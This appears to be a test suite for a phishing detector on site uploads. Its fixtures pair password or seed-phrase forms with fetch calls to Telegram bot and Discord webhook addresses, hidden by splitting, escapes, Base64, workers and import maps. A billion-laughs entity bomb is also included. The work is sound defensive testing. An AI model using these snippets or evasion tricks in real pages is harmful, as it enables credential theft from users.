/** PIPELINE 3: pages that send secrets by bots and webhooks, and pages that cannot be read in the bound. */
import { describe, expect, test } from "bun:test";
import { judge, judgePage } from "../kit/abuse-site.ts";
import { expectLinear } from "../kit/cpu.ts";

const PASSWORD = `<input type="password" name="password">`;
const EVIL = "https://collect.example/in.php";

describe("a page that asks for a password or seed phrase and knows a bot or webhook is refused", () => {
  const bot = "https://api.telegram.org/bot123:ABC/sendMessage";
  const page = (rest: string, field = PASSWORD) => `<title>x</title><form>${field}</form>${rest}`;
  test.each([
    ["a Telegram bot in a script", { "index.html": page(`<script>fetch("${bot}")</script>`) }],
    [
      "a Discord webhook in a script",
      { "index.html": page(`<script>fetch("https://discord.com/api/webhooks/1/x")</script>`) },
    ],
    [
      "a seed phrase and a bot",
      { "index.html": page(`<script>u="${bot}"</script>`, `<textarea name="mnemonic"></textarea>`) },
    ],
    ["an address in pieces", { "index.html": page(`<script>u="https://api.tele" + 'gram.org/bo' + "t1:A"</script>`) }],
    [
      "an address in escapes",
      { "index.html": page(String.raw`<script>u="https:\/\/api.\x74elegram.org\/bot1"</script>`) },
    ],
    ["an address in Base64", { "index.html": page(`<script>u=atob("${btoa(bot)}")</script>`) }],
    [
      "an event attribute",
      { "index.html": page(`<form onsubmit="fetch('https://api&#46;telegram.org/bot1')"></form>`) },
    ],
    ["a data attribute", { "index.html": page(`<div data-hook="${bot}"></div>`) }],
    ["a form that sends by e-mail", { "index.html": `<form action="mailto:me@collect.example">${PASSWORD}</form>` }],
    ["the same in other letters", { "index.html": `<form action="MAILTO&colon;x@y.example">${PASSWORD}</form>` }],
    [
      "a script at a data: address",
      { "index.html": page(`<script src="data:text/javascript;base64,${btoa(`fetch("${bot}")`)}"></script>`) },
    ],
    [
      "a file that the page loads",
      { "a/index.html": page(`<script src="../js/x.js"></script>`), "js/x.js": `fetch("${bot}")` },
    ],
    [
      "a file by way of <base>",
      { "index.html": page(`<base href="/js/"><script src="x.js"></script>`), "js/x.js": `fetch("${bot}")` },
    ],
    [
      "a file that a loaded file imports",
      {
        "index.html": page(`<script type=module>import "./a.js"</script>`),
        "a.js": `import {b} from "./b.js"`,
        "b.js": `fetch("${bot}")`,
      },
    ],
    [
      "a bot's host and path apart",
      { "index.html": page(`<script>h="https://api.telegram.org";f(h+"/bot1")</script>`) },
    ],
    ["a bot's host with its port", { "index.html": page(`<script>f("https://api.telegram.org:443/bot1")</script>`) }],
    ["a bot's host with a dot at its end", { "index.html": page(`<script>f("//api.telegram.org./bot1")</script>`) }],
    ["a needless escape", { "index.html": page(String.raw`<script>f("https://api.telegram\.org/bot1")</script>`) }],
    ["an octal escape", { "index.html": page(String.raw`<script>f("https://api.telegram\56org/bot1")</script>`) }],
    ["a line that goes on", { "index.html": page(`<script>f("https://api.tele\\\ngram.org/bot1")</script>`) }],
    [
      "a webhook by its API's version",
      { "index.html": page(`<script>f("//discord.com/api/v10/webhooks/1")</script>`) },
    ],
    [
      "a webhook's host with its port",
      { "index.html": page(`<script>f("//discord.com:443/api/webhooks/1")</script>`) },
    ],
    ["a worker", { "index.html": page(`<script>new Worker("w.js")</script>`), "w.js": `fetch("${bot}")` }],
    [
      "a worker of a module",
      {
        "index.html": page(`<script type=module src="js/a.js"></script>`),
        "js/a.js": `new SharedWorker(new URL("./w.js", import.meta.url))`,
        "js/w.js": `fetch("${bot}")`,
      },
    ],
    [
      "a script that a script in a folder adds to the page",
      {
        "index.html": page(`<script src="js/a.js"></script>`),
        "js/a.js": `s.src = "js/b.js?v=1"`,
        "js/b.js": `fetch("${bot}")`,
      },
    ],
    [
      "a module by way of the import map",
      {
        "index.html": page(
          `<script type=importmap>{"imports":{"x":"./x.js"}}</script><script type=module>import "x"</script>`,
        ),
        "x.js": `fetch("${bot}")`,
      },
    ],
  ])("%s", (_, files: Record<string, string>) => expect(judge(files)).toBe("abuse_rejected"));

  test.each([
    ["a bot's address in the text of a page about bots", { "index.html": page(`<p>Send to <code>${bot}</code></p>`) }],
    ["a link to Discord", { "index.html": page(`<a href="https://discord.com/invite/abc">Chat</a>`) }],
    ["a bot in a file that the page does not load", { "index.html": page(""), "bot.js": `fetch("${bot}")` }],
    [
      "a bot on a page without password",
      { "index.html": `<form><input type=email></form><script>fetch("${bot}")</script>` },
    ],
    [
      "a form by e-mail beside one that asks for a password",
      { "index.html": page(`<form action="mailto:a@b.example"><input name=name></form>`) },
    ],
    [
      "a page that tries a bot's token",
      {
        "index.html": page(
          `<script>fetch("https://api.telegram.org/bot" + t)</script>`,
          `<input type=password id=bot_token>`,
        ),
      },
    ],
    [
      "a form by e-mail that asks for a name",
      { "index.html": `<form action="mailto:a@b.example"><input name=name></form>` },
    ],
  ])("but not %s", (_, files: Record<string, string>) => expect(judge(files)).toBe("pass"));

  test("a file in UTF-16 with a mark", () => {
    const script = new Uint8Array(Buffer.from(`\ufefffetch("${bot}")`, "utf16le"));
    expect(judge({ "index.html": page(`<script src="a.js"></script>`), "a.js": script })).toBe("abuse_rejected");
  });
});

describe("a page that cannot be read in the bound is refused with too_complex", () => {
  const nested = (depth: number): string =>
    depth === 0
      ? "x"
      : `<iframe srcdoc="${nested(depth - 1)
          .replaceAll("&", "&amp;")
          .replaceAll('"', "&quot;")}"></iframe>`;
  const lol = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join("");
  test.each([
    ["frames in frames", "a.html", nested(6)],
    ["entities in entities", "a.svg", `<!DOCTYPE svg [<!ENTITY l0 "lol">${lol}]><svg>&l9;</svg>`],
    ["entities that name themselves", "a.svg", `<!DOCTYPE svg [<!ENTITY a "&a;&a;">]><svg>&a;</svg>`],
    ["attributes by document type", "a.xhtml", `<!DOCTYPE html [<!ATTLIST form action CDATA "${EVIL}">]><html/>`],
    ["bases without end in a table", "a.html", `<table>${"<base href=x>".repeat(1000)}`],
    ["forms in forms without end", "a.html", `<template>${"<form>".repeat(1000)}`],
    ["forms in forms without end in XML", "a.xhtml", `<html>${"<form>".repeat(1000)}`],
  ])("%s", (_, path, source) => expect(judge({ [path]: source })).toBe("too_complex"));

  test("three frames in each other are fine", () => expect(judgePage(nested(3))).toBe("pass"));
  test("bases and forms that do not count are fine", () => {
    expect(judgePage("<base href=x>".repeat(1000) + "<form>".repeat(1000))).toBe("pass");
  });
  type Fill = (piece: string) => string;
  test.each<[what: string, html: (fill: Fill) => string]>([
    ["open elements and end tags without partner", (fill) => fill("<b></i>")],
    ["drawings", (fill) => fill("<svg><desc><b></q>")],
    ["labels", (fill) => fill("<label>x<input>")],
    ["links", (fill) => fill("<a href=x>y")],
    ["comments never closed", (fill) => fill("<!--")],
    ["quotes", (fill) => fill(`<a x="`)],
    ["scripts in comments", (fill) => `<script><!--${fill("<script></script>")}`],
    ["instructions", (fill) => fill("<?x ")],
    ["logos beside a password field", (fill) => `<input type=password>${fill("<img alt=a>")}`],
    ["fields beside recovery phrases", (fill) => "<input>".repeat(fill("x").length / 330) + fill("seed phrase ")],
    ["forms", (fill) => fill("<form action=/x></form>")],
    ["frames", (fill) => fill('<iframe srcdoc="<b>">')],
    ["fields with labels", (fill) => fill(`<input id=x type=text placeholder="a b c">`)],
  ])(
    "6 MB of %s are read in good time",
    (_, html) => {
      const pageOf = (size: number) => html((piece) => piece.repeat(Math.floor(size / piece.length)));
      expectLinear(6 << 20, pageOf, judgePage);
    },
    60_000,
  );
});
